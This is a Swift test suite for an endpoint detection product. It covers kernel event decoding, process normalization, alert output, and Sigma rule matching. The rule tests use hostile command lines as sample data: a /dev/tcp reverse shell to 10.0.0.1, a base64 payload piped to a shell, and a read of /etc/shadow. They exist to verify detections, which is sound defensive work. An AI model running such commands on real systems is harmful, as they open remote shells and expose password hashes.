@@ -1,0 +1,164 @@
+import Testing
+import Foundation
+@testable import EDRCore
+@testable import EDRDetect
+import EDRSigma
+
+/// Builds records byte for byte as bpf/edr_events.h lays them out.
+enum RecordBuilder {
+    static func ids(pid: UInt32, ppid: UInt32, uid: UInt32, start: UInt64, parentStart: UInt64) -> [UInt8] {
+        var b = [UInt8]()
+        for v in [pid, pid, ppid, uid, uid, uid, uid, UInt32.max] { b.appendLE(v) }
+        b.appendLE(start)
+        b.appendLE(parentStart)
+        return b
+    }
+
+    static func exec(pid: UInt32 = 100, ppid: UInt32 = 50, uid: UInt32 = 0, args: [String], path: String, cwd: String,
+                     start: UInt64 = 5_000_000_000, parentStart: UInt64 = 1_000_000_000, flags: UInt32 = 0) -> [UInt8] {
+        func components(_ p: String) -> [UInt8] {
+            p.split(separator: "/").reversed().flatMap { (c: Substring) -> [UInt8] in Array(c.utf8) + [0] }
+        }
+        let a = args.flatMap { (s: String) -> [UInt8] in Array(s.utf8) + [0] }
+        let pc = components(path), cc = components(cwd)
+        var b = [UInt8]()
+        b.appendLE(UInt16(1)); b.appendLE(UInt16(1)); b.appendLE(UInt32(104 + a.count + pc.count + cc.count)); b.appendLE(UInt64(123))
+        b += ids(pid: pid, ppid: ppid, uid: uid, start: start, parentStart: parentStart)
+        b.appendLE(UInt64(777)) // cgroup
+        b.appendLE(flags); b.appendLE(UInt32(args.count))
+        b.appendLE(UInt16(a.count)); b.appendLE(UInt16(pc.count)); b.appendLE(UInt16(cc.count)); b.appendLE(UInt16(0))
+        b += Array("comm".utf8)
+        b += [UInt8](repeating: 0, count: 12)
+        return b + a + pc + cc
+    }
+}
+
+@Suite("Kernel records and normalization")
+struct KernelRecordTests {
+    @Test func decodesExec() throws {
+        let bytes = RecordBuilder.exec(args: ["/usr/bin/curl", "-s", "http://x"], path: "/usr/bin/curl", cwd: "/home/a b")
+        guard case .exec(let r) = try KernelRecordDecoder.decode(bytes) else { Issue.record("not exec"); return }
+        #expect(r.args == ["/usr/bin/curl", "-s", "http://x"])
+        #expect(r.path == "/usr/bin/curl")
+        #expect(r.cwd == "/home/a b")
+        #expect(r.ids.pid == 100 && r.ids.ppid == 50)
+        #expect(r.cgroupID == 777 && r.comm == "comm" && r.argc == 3)
+    }
+
+    @Test func rootPathAndTruncatedArgs() throws {
+        var bytes = RecordBuilder.exec(args: ["a", "b"], path: "/x", cwd: "/")
+        guard case .exec(let r) = try KernelRecordDecoder.decode(bytes) else { return }
+        #expect(r.cwd == "/")
+        // A truncated argv has no final NUL: the partial argument is kept.
+        bytes = RecordBuilder.exec(args: ["a", "bcd"], path: "/x", cwd: "/", flags: ExecRecord.argsTruncated)
+        bytes.remove(at: 104 + 5)          // drop the last NUL of argv
+        bytes[80] -= 1                      // args_len
+        let size = UInt32(bytes.count)
+        withUnsafeBytes(of: size.littleEndian) { for i in 0..<4 { bytes[4 + i] = $0[i] } }
+        guard case .exec(let t) = try KernelRecordDecoder.decode(bytes) else { return }
+        #expect(t.args == ["a", "bcd"] && t.flags & ExecRecord.argsTruncated != 0)
+    }
+
+    @Test func rejectsMalformedRecords() {
+        let good = RecordBuilder.exec(args: ["a"], path: "/a", cwd: "/")
+        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(Array(good.prefix(10))) }
+        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(Array(good.dropLast())) } // size mismatch
+        var lengths = good
+        lengths[80] = 200 // args_len beyond the record
+        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(lengths) }
+        var kind = good
+        kind[0] = 99
+        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(kind) }
+        var version = good
+        version[2] = 7
+        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(version) }
+        var rng = SystemRandomNumberGenerator()
+        for _ in 0..<2000 {
+            var b = good
+            for _ in 0..<4 { b[Int.random(in: 0..<b.count, using: &rng)] = UInt8.random(in: 0...255, using: &rng) }
+            _ = try? KernelRecordDecoder.decode(b)
+        }
+    }
+
+    @Test func normalizerLinksParentAndBuildsSysmonFields() throws {
+        var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
+        let parentStart: UInt64 = 1_000_000_000
+        guard case .exec(let p) = try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash", "-i"], path: "/usr/bin/bash", cwd: "/root", start: parentStart, parentStart: 10)) else { return }
+        _ = n.exec(p)
+        guard case .exec(let c) = try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 100, ppid: 50, args: ["whoami"], path: "/usr/bin/whoami", cwd: "/tmp", parentStart: parentStart)) else { return }
+        let (event, proc, parent) = n.exec(c)
+        #expect(event.logsource == Normalizer.processCreation)
+        #expect(event["Image"] == .string("/usr/bin/whoami"))
+        #expect(event["CommandLine"] == .string("whoami"))
+        #expect(event["CurrentDirectory"] == .string("/tmp"))
+        #expect(event["User"] == .string("root"))
+        #expect(event["ProcessId"] == .int(100))
+        #expect(event["ParentProcessId"] == .int(50))
+        #expect(event["ParentImage"] == .string("/usr/bin/bash"))
+        #expect(event["ParentCommandLine"] == .string("bash -i"))
+        #expect(parent?.pid == 50)
+        #expect(proc.guid.hasPrefix("{01234567-") && proc.guid.count == 38)
+        #expect(event["ParentProcessGuid"] == .string(parent!.guid))
+    }
+
+    @Test func snapshotParsesProcText() throws {
+        var n = Normalizer(machineID: "ab")
+        var p = [UInt8]()
+        p.appendLE(UInt32(321))
+        func section(_ tag: UInt8, _ s: [UInt8]) { p.append(tag); p.appendLE(UInt32(s.count)); p += s }
+        section(1, Array("321 (my (odd) name) S 1 321 321 0 -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 4242 1000 10".utf8))
+        section(2, Array("Name:\tx\nUid:\t1000\t1000\t1000\t1000\n".utf8))
+        section(3, Array("python3\0-m\0http.server\0".utf8))
+        section(4, Array("/usr/bin/python3.11".utf8))
+        section(5, Array("/srv".utf8))
+        try n.snapshot(p)
+        let e = try #require(n.cache.lookup(pid: 321, startTicks: 4242))
+        #expect(e.commandLine == "python3 -m http.server" && e.image == "/usr/bin/python3.11" && e.cwd == "/srv" && e.uid == 1000 && e.ppid == 1)
+        #expect(throws: RecordError.self) { try n.snapshot([1, 0, 0, 0, 1, 200, 0, 0, 0]) }
+    }
+
+    @Test func alertIsValidECS() throws {
+        let event = Event(logsource: Normalizer.processCreation, timestamp: 1_800_000_000.5, fields: [
+            ("Image", "/usr/bin/whoami"), ("CommandLine", "whoami \"quoted\"\n"), ("ProcessId", 7), ("User", "root"),
+            ("ParentProcessId", 1), ("ParentImage", "/sbin/init"), ("CurrentDirectory", "/"),
+        ])
+        let rule = SigmaRuleInfo(id: "r1", title: "T", level: .high, tags: ["attack.t1033", "attack.discovery"],
+                                 logsource: Normalizer.processCreation, path: "x.yml")
+        let line = AlertEncoder.sigma(event: event, rule: rule, sequence: 9, context: AlertContext(hostName: "h", hostID: "id"))
+        #expect(line.last == 0x0A)
+        let obj = try #require(try JSONSerialization.jsonObject(with: Data(line)) as? [String: Any])
+        #expect(obj["@timestamp"] as? String == "2027-01-15T08:00:00.500000Z")
+        let ev = try #require(obj["event"] as? [String: Any])
+        #expect(ev["kind"] as? String == "alert" && ev["severity"] as? Int == 73 && ev["sequence"] as? Int == 9)
+        let r = try #require(obj["rule"] as? [String: Any])
+        #expect(r["ruleset"] as? String == "sigma" && r["id"] as? String == "r1")
+        let process = try #require(obj["process"] as? [String: Any])
+        #expect(process["executable"] as? String == "/usr/bin/whoami" && process["pid"] as? Int == 7)
+        #expect(process["command_line"] as? String == "whoami \"quoted\"\n")
+        #expect((process["parent"] as? [String: Any])?["executable"] as? String == "/sbin/init")
+        #expect((obj["threat"] as? [String: Any]).flatMap { ($0["technique"] as? [String: Any])?["id"] as? [String] } == ["T1033"])
+        #expect((obj["agent"] as? [String: Any])?["name"] as? String == "edr")
+    }
+}
+
+@Suite("Team rules")
+struct TeamRuleTests {
+    static let rulesDir = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
+        .deletingLastPathComponent().appendingPathComponent("rules/sigma").path
+
+    func event(_ image: String, _ cmd: String, user: String = "root") -> Event {
+        Event(logsource: Normalizer.processCreation, fields: [("Image", .string(image)), ("CommandLine", .string(cmd)), ("User", .string(user))])
+    }
+
+    @Test func teamRulesLoadAndMatch() throws {
+        let engine = try SigmaEngine.load(paths: [Self.rulesDir])
+        #expect(engine.loadedCount == engine.diagnostics.count && engine.loadedCount >= 4)
+        let titles = { (e: Event) in Set(engine.evaluate(e).map(\.rule.title)) }
+        #expect(titles(event("/usr/bin/whoami", "whoami")).contains("Identity Discovery As Root"))
+        #expect(titles(event("/usr/bin/whoami", "whoami", user: "alice")).isEmpty)
+        #expect(titles(event("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")).contains("Interactive Reverse Shell Through /dev/tcp Or A Network Tool"))
+        #expect(titles(event("/usr/bin/sh", "sh -c echo aGk= | base64 -d | sh")).contains("Base64-Decoded Script Piped To A Shell"))
+        #expect(titles(event("/usr/bin/sh", "sh -c base64 -d file > out")).isEmpty)
+        #expect(titles(event("/usr/bin/CAT", "cat /etc/SHADOW")).contains("Password Hash File Read By A Text Tool")) // case-insensitive
+    }
+}
